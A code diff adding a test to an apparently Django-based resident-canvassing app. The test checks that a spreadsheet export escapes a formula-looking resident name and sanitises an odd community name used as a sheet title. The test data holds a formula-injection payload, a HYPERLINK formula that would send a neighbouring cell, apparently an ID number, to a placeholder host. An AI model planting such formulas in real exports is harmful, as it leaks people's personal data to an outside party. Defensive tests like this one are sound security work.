@@ -208,3 +208,22 @@ def test_a_role_that_may_not_reveal_is_not_offered_the_form(canvasser, person):
     )
     assert "王*明" in html
     assert reverse("territory:resident_reveal", args=[person.pk]) not in html
+
+
+def test_a_name_that_looks_like_a_formula_stays_text_and_an_odd_community_name_exports(worker):
+    from doorstep.conftest import make_community
+
+    odd = make_community("A/B:C?[1]*社区")
+    worker.communities.add(odd)
+    make_resident(
+        make_household(make_building(odd)), name='=HYPERLINK("http://x/?"&E2,"x")', id_number=ID
+    )
+    url = reverse("territory:community_export", args=[odd.pk])
+    response = client_for(worker).post(url, {"reason": "grid workers phone the untested"})
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    assert sheet.title == "A B C  1  社区"
+    cells = [c for row in sheet.iter_rows() for c in row]
+    formula = next(c for c in cells if "HYPERLINK" in str(c.value))
+    assert formula.data_type == "s" and formula.value.startswith("'=")
+    assert not any(c.data_type == "f" for c in cells)
